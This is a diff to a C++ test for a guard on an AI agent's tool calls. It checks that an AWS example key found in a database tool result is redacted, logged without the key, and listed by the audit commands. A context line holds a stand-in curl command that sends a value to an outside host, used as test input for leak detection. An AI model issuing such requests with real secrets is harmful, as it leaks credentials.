@@ -287,6 +287,23 @@ TEST_F(SessionResults, ACredentialInAnMcpResultIsRedactedReportedAndRemembered) 
   const auto [verdict, reason] = bash("k1", "curl -s https://b.example/?k=v");
   EXPECT_EQ(verdict, "ask");
   EXPECT_NE(reason.find("the result of mcp__db__query"), std::string::npos) << reason;
+  // The audit records the finding (never the key), and `audit` lists it.
+  std::ifstream audit(dir.path() / "home/.toolguard/audit.jsonl");
+  std::string line;
+  json found;
+  while (std::getline(audit, line)) {
+    if (line.find("\"tool-result\"") != std::string::npos) found = json::parse(line);
+    EXPECT_EQ(line.find("AKIAIOSFODNN7EXAMPLE"), std::string::npos) << line;
+  }
+  ASSERT_TRUE(found.is_object());
+  EXPECT_EQ(found["tool"], "mcp__db__query");
+  EXPECT_EQ(found["findings"]["secret"], "an AWS access key id");
+  EXPECT_EQ(found["redacted"], true);
+  EXPECT_EQ(found["labels"], json{"sensitive"});
+  const RunResult listed = run({"audit", "query", "--json", "--tool", "mcp__db__query"});
+  EXPECT_EQ(listed.exit_code, 0) << listed.err;
+  EXPECT_NE(listed.out.find("tool-result"), std::string::npos) << listed.out;
+  EXPECT_EQ(run({"audit", "verify"}).exit_code, 0);
 }
 
 TEST_F(SessionResults, InstructionsInAFetchedPageAreFlaggedAsData) {
